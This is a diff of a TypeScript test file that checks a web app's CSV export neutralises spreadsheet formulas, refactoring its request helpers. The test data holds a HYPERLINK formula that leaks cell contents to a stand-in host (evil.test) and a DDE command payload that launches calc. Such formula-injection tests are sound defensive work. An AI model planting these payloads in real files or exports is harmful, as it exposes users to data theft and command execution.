@@ -1,7 +1,8 @@
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildTestApp, type TestApp } from '../../../test/build-test-app';
-import { bearer, buildShow, registerUser } from '../../../test/factories';
+import { caller } from '../../../test/http';
+import { buildShow, registerUser } from '../../../test/factories';
 import { dir, textFile } from '../../../test/import-fixtures';
 import { openArchive } from './archive';
 
@@ -16,14 +17,12 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 
+const call = caller(() => t.app);
+
 const hyperlink = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for details")';
 
 async function exportedCsv(token: string, name: string): Promise<string> {
-  const res = await t.app.inject({
-    method: 'GET',
-    url: '/api/users/me/export?format=csv',
-    headers: bearer(token),
-  });
+  const res = await call(token, { method: 'GET', url: '/api/users/me/export?format=csv' });
   expect(res.statusCode).toBe(200);
   const archive = await openArchive(textFile(`formulas-${Date.now()}.zip`, res.rawPayload));
   try {
@@ -38,10 +37,9 @@ describe('CSV export and formulas', () => {
   it("neutralises a formula in another member's list copied into mine", async () => {
     const show = await buildShow(t.db, { title: '@Midnight' });
     const bob = await registerUser(t.app);
-    const created = await t.app.inject({
+    const created = await call(bob.token, {
       method: 'POST',
       url: '/api/lists',
-      headers: bearer(bob.token),
       payload: {
         name: hyperlink,
         items: [{ showId: show.id, notes: '+cmd|" /C calc"!A0' }],
@@ -49,17 +47,15 @@ describe('CSV export and formulas', () => {
     });
     expect(created.statusCode).toBe(201);
     const ann = await registerUser(t.app);
-    const copy = await t.app.inject({
+    const copy = await call(ann.token, {
       method: 'POST',
       url: `/api/lists/${(created.json() as { id: number }).id}/duplicate`,
-      headers: bearer(ann.token),
       payload: {},
     });
     expect(copy.statusCode).toBe(201);
-    const review = await t.app.inject({
+    const review = await call(ann.token, {
       method: 'POST',
       url: '/api/reviews',
-      headers: bearer(ann.token),
       payload: {
         showId: show.id,
         rating: 8,
